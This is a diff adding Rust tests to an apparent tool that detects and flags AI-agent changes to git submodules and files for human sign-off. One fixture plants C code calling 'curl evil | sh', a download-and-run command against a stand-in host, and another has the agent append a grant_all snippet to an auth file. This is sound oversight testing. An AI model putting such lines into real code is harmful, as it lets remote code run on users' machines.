@@ -1178,3 +1178,93 @@ fn a_conflict_in_a_file_the_other_side_renamed_is_not_the_agents() {
     assert!(repo.root().join("src/access.py").exists() && !repo.root().join("src/auth.py").exists());
     assert!(!after.stderr.contains("recorded"), "{after:?}");
 }
+
+/// A library of two commits added to `repo` as the submodule `deps/lib`
+/// at the first, committed on `main` before `feature` branched; the
+/// library and its second commit (the one an agent moves to).
+fn with_submodule() -> (VouchRepo, support::repo::TestRepo, String) {
+    let lib = support::repo::TestRepo::new();
+    lib.write("lib.c", "int f(void) { return 1; }\n");
+    lib.commit_all("one");
+    lib.write("lib.c", "int f(void) { return system(\"curl evil | sh\"); }\n");
+    lib.commit_all("two");
+    let second = lib.git(&["rev-parse", "HEAD"]).trim().to_string();
+    let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("src/auth.py", AUTH)], &[]);
+    let url = lib.root.to_str().unwrap().to_string();
+    repo.ok(&["-c", "protocol.file.allow=always", "submodule", "add", "-q", &url, "deps/lib"]);
+    in_submodule(&repo, &["checkout", "-q", "HEAD~1"]);
+    repo.ok(&["add", "-A"]);
+    repo.ok(&["commit", "-q", "-m", "add lib"]);
+    repo.ok(&["checkout", "-q", "-b", "feature"]);
+    (repo, lib, second)
+}
+
+/// git in the submodule's worktree.
+fn in_submodule(repo: &VouchRepo, args: &[&str]) {
+    let out = support::repo::git_in(&repo.root().join("deps/lib"), args);
+    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+#[test]
+fn a_submodule_an_agent_moves_in_a_shell_command_needs_sign_off() {
+    // The agent moves the submodule and leaves the commit to the person;
+    // or commits it itself, in the same command.
+    for commits in [false, true] {
+        let (repo, _lib, second) = with_submodule();
+        let command = format!("cd deps/lib && git checkout -q {second} && cd ../.. && git add deps/lib");
+        let command = if commits { format!("{command} && git commit -qm bump") } else { command };
+        agent_shell(&repo, "toolu_1", &command, || {
+            in_submodule(&repo, &["checkout", "-q", &second]);
+            repo.ok(&["add", "deps/lib"]);
+            if commits {
+                repo.ok(&["commit", "-q", "-m", "bump"]);
+            }
+        });
+        if !commits {
+            repo.ok(&["commit", "-q", "-m", "bump lib"]);
+        }
+        assert!(!attests_no_ai(&repo.note("HEAD")), "commits {commits}: {:?}", repo.note("HEAD"));
+        let found = failures(&repo);
+        assert!(
+            found.iter().any(|(rule, path, _)| rule == "unapproved-ai" && path == "deps/lib"),
+            "commits {commits}: {found:?}"
+        );
+    }
+}
+
+#[test]
+fn a_submodule_a_person_moves_while_an_agent_works_stays_theirs() {
+    // The person bumps the library by hand and stages it; the agent's
+    // command, meanwhile, only edits a file.
+    let (repo, _lib, second) = with_submodule();
+    in_submodule(&repo, &["checkout", "-q", &second]);
+    repo.ok(&["add", "deps/lib"]);
+    agent_shell(&repo, "toolu_1", "cat >> src/auth.py", || {
+        repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
+    });
+    repo.ok(&["commit", "-q", "-am", "bump lib, and the agent's grant_all"]);
+    let found = failures(&repo);
+    assert!(found.iter().any(|(_, _, name)| name == "grant_all"), "{found:?}");
+    assert!(!found.iter().any(|(_, path, _)| path == "deps/lib"), "{found:?}");
+}
+
+#[test]
+fn a_teammates_submodule_bump_an_agent_pulls_stays_the_teammates() {
+    // A teammate bumps the library on a branch of their own; the agent
+    // merges it and updates the submodule's worktree to match.
+    let (repo, _lib, second) = with_submodule();
+    repo.ok(&["checkout", "-q", "-b", "teammate", "main"]);
+    in_submodule(&repo, &["checkout", "-q", &second]);
+    repo.ok(&["commit", "-q", "-am", "bump lib"]);
+    in_submodule(&repo, &["checkout", "-q", "HEAD~1"]);
+    repo.ok(&["checkout", "-q", "feature"]);
+    let input = json!({ "command": "git merge -q teammate && git submodule update" });
+    repo.claude_hook("PreToolUse", "Bash", "toolu_1", input.clone());
+    repo.ok(&["merge", "-q", "teammate"]);
+    in_submodule(&repo, &["checkout", "-q", &second]);
+    let after = repo.claude_hook("PostToolUse", "Bash", "toolu_1", input);
+    assert!(!after.stderr.contains("deps/lib"), "{after:?}");
+    assert!(repo.ok(&["status", "--porcelain"]).is_empty());
+    let found = failures(&repo);
+    assert!(found.is_empty(), "{found:?}");
+}
